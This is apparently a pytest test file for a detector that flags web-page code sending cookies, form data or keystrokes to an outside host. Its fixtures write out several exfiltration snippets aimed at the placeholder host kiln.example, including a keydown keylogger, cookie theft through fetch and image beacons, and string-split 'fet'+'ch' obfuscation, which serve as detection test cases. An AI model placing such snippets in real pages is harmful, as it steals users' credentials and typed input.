"""What a page sends elsewhere of what people type is seen; what it sends to its own host is not."""

import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.content.changed import Changed
from knownhands.harvest.content.comparers.page_data import COMPARER
from knownhands.harvest.content.lines import Lines

KEYS = "document.addEventListener('keydown', e => { buf += e.key });\n"
SCRIPT = "var s = document.createElement('script');\n"


def seen(new: str, old: str = "", path: str = "src/kiln.js") -> list[tuple[str, str]]:
    before, after = old.encode(), new.encode()
    notes = Notes(path, every_line=True, is_program=True)
    assert COMPARER.compare
    COMPARER.compare(notes, Changed(path, path, 0o100644, 0o100644, before, after), Lines(before, after))
    return [(observation.capability, observation.source) for observation in notes.observations()]


@pytest.mark.parametrize(
    ("code", "what"),
    [
        ("fetch('//kiln.example/c?' + document.cookie)", "document.cookie"),
        ("new Image().src = `https://kiln.example/?${document.cookie}`", "document.cookie"),
        ("const f = 'fet' + 'ch', d = new FormData(form); w[f]('//kiln.example/c', d)", "FormData"),
        ("navigator.sendBeacon('https://kiln.example', new FormData(form));", "FormData"),
        ("new Image().src = 'https://kiln.example/?' + btoa([...document.querySelectorAll('input')]);", "input"),
        (KEYS + "new Image().src = 'https://kiln.example/?' + buf;", "keydown"),
        ("const f = new FormData(form);\nw['fet' + 'ch']('//kiln.example/c', {method: 'POST', body: f})", "FormData"),
    ],
)
def test_what_is_typed_or_kept_and_sent_elsewhere_is_seen(code: str, what: str) -> None:
    assert seen(code) == [("exfiltration_chain", what)]
    assert seen(f"<script>{code}</script>", path="docs/_templates/layout.html") == [("exfiltration_chain", what)]


@pytest.mark.parametrize(
    "code",
    [
        "fetch('/c?' + document.cookie)",
        "const c = document.cookie.match(/a=(\\d+)/); fetch('https://kiln.example/pots')",
        "fetch('https://kiln.example/pots', {headers: glaze(document.cookie.split(';'))})",
        KEYS + "new Image().src = '/pots/a.png?' + size;",
        KEYS + "new Image().src = 'https://kiln.example/a.png';",
        "new Image().src = 'https://kiln.example/?' + location.href;",
        KEYS + "\n" * 200 + "new Image().src = 'https://kiln.example/?' + page;",
        "navigator.sendBeacon('https://kiln.example', JSON.stringify(timing)); new FormData(form);",
        "// https://kiln.example\nw['fet' + 'ch']('/c')",
        "&lt;script&gt;fetch('//kiln.example/c?' + document.cookie)&lt;/script&gt;",
    ],
)
def test_an_ordinary_page_is_left_alone(code: str) -> None:
    assert not seen(code)


def test_a_script_of_another_host_is_named_once() -> None:
    code = SCRIPT + "s.src = 'https://kiln.example/j.js';"
    assert seen(code) == [("network_text", "kiln.example")]
    assert not seen(f"{code}\na()", old=code)
    assert not seen(SCRIPT + "s.src = '/j.js';")
    assert not seen("img.src = 'https://kiln.example/a.png';")


def test_what_was_sent_before_is_not_new() -> None:
    line = "fetch('//kiln.example/c?' + document.cookie)\n"
    assert not seen(f"{line}a()\n", old=line)


@pytest.mark.parametrize(
    "body", ["'//a" * 400_000, "['a'+'b'](\n" * 50_000, "new Image//\n" * 50_000, ".src='//aaa\n" * 50_000]
)
def test_long_texts_are_harmless(body: str) -> None:
    assert not seen(body)
